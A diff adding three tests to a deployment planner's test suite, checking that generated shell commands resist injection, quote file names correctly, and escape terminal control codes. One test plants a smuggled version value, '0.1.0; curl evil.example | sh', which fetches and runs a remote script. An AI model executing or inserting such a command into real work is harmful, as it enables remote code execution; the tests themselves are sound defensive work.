@@ -258,6 +258,31 @@ describe("a plan", () => {
     expect(planText(plan)).toMatch(/left alone: other/);
   });
 
+  it("writes nothing into a command that a node said of itself, and that is no release", () => {
+    const lie = "0.1.0; curl evil.example | sh";
+    const plan = planned({ nodes: changed("relay-1", { version: lie }), pools: office });
+    const steps = [...plan.control, ...plan.nodes.flatMap((node) => node.steps)];
+    const commands = steps.flatMap((step) => [...step.commands, ...step.rollback]);
+    expect(commands.filter((command) => command.includes("evil"))).toEqual([]);
+    expect(commands).toContain("ln -sfn weft-BEFORE /opt/weft");
+    expect(planText(plan)).toContain(`version: ${lie} -> 0.2.0`);
+  });
+
+  it("names its file as a shell takes it", () => {
+    const nobody = { cluster: "default", pinned: undefined, running: undefined };
+    const steps = planOf(inventory, { ...nobody, file: "my plan's.yaml" }).nodes.flatMap((node) => node.steps);
+    const commands = steps.flatMap((step) => step.commands).filter((command) => command.startsWith("weft deploy plan"));
+    expect(commands.length).toBeGreaterThan(0);
+    for (const command of commands) expect(command).toMatch(/^weft deploy plan 'my plan'\\''s\.yaml' --node /);
+  });
+
+  it("is coloured on a terminal, and obeys nobody else there", () => {
+    const plan = planned({ nodes: changed("relay-1", { version: "\u001b[2J" }), pools: office });
+    const text = planText(plan, (action, shown) => `\u001b[1m${action}|${shown}\u001b[0m`);
+    expect(text).toContain("\u001b[1mchange|change \u001b[0mrelay-1 on relay.example");
+    expect(text).toContain("version: \\u001b[2J -> 0.2.0");
+  });
+
   it("writes configurations that nodes take", () => {
     for (const node of inventory.nodes) {
       const flags = configurationOf(inventory, node);
